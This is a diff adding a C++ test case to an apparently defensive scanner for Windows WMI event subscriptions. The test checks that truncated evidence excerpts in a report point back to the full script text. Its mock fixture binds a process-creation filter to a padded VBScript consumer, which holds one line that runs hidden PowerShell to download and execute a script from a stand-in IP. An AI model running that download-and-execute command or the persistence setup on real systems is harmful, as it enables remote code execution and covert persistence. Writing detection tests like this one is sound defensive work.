@@ -1065,3 +1065,41 @@ TEST_CASE("report_writer marks a report partial when the collection stopped earl
     CHECK(doc["summary"]["partial"] == true);
     CHECK(doc["summary"]["collection_stopped"].get<std::string>().find("too many objects") != std::string::npos);
 }
+
+TEST_CASE("report: a cut evidence excerpt points at its whole text in the same subscription entry") {
+    std::string script = "Dim s\n";
+    for (int i = 0; i < 30; ++i) script += "s = s & \"line " + std::to_string(i) + " of padding text\"\n";
+    script += "CreateObject(\"WScript.Shell\").Run \"powershell -w hidden -c iwr http://203.0.113.44/x.ps1 | iex\", 0\n";
+    for (int i = 0; i < 30; ++i) script += "s = s & \"more " + std::to_string(i) + " padding\"\n";
+    mock_collector source;
+    source.filter("F", "SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_Process'")
+        .script_consumer("S", script)
+        .bind("F", "S", "ActiveScriptEventConsumer");
+    auto snap = source.collect();
+    REQUIRE(snap);
+    const engine scan_engine;
+    scanner scan(scan_engine);
+    const subscription_graph graph = scan.build_graph(*snap);
+    const std::vector<assessment> results = scan.assess_all(graph);
+    const json_value report = report_to_json(results, graph.source());
+    const json_value& entry = report["subscriptions"][0];
+    std::size_t pointed = 0;
+    for (const json_value& fi : entry["findings"]) {
+        for (const json_value& e : fi["evidence"]) {
+            if (!e.contains("text_at")) {
+                CHECK_FALSE(e.contains("offset"));
+                continue;
+            }
+            ++pointed;
+            const json_value& whole = entry.at(json_value::json_pointer(e["text_at"].get<std::string>()));
+            REQUIRE(whole.is_string());
+            std::string body = e["excerpt"].get<std::string>();
+            const std::string mark = "\xE2\x80\xA6";
+            if (body.starts_with(mark)) body.erase(0, mark.size());
+            if (body.ends_with(mark)) body.erase(body.size() - mark.size());
+            CHECK(whole.get<std::string>().find(body) != std::string::npos);
+            CHECK(e["offset"].get<std::size_t>() < whole.get<std::string>().size());
+        }
+    }
+    CHECK(pointed > 0);
+}
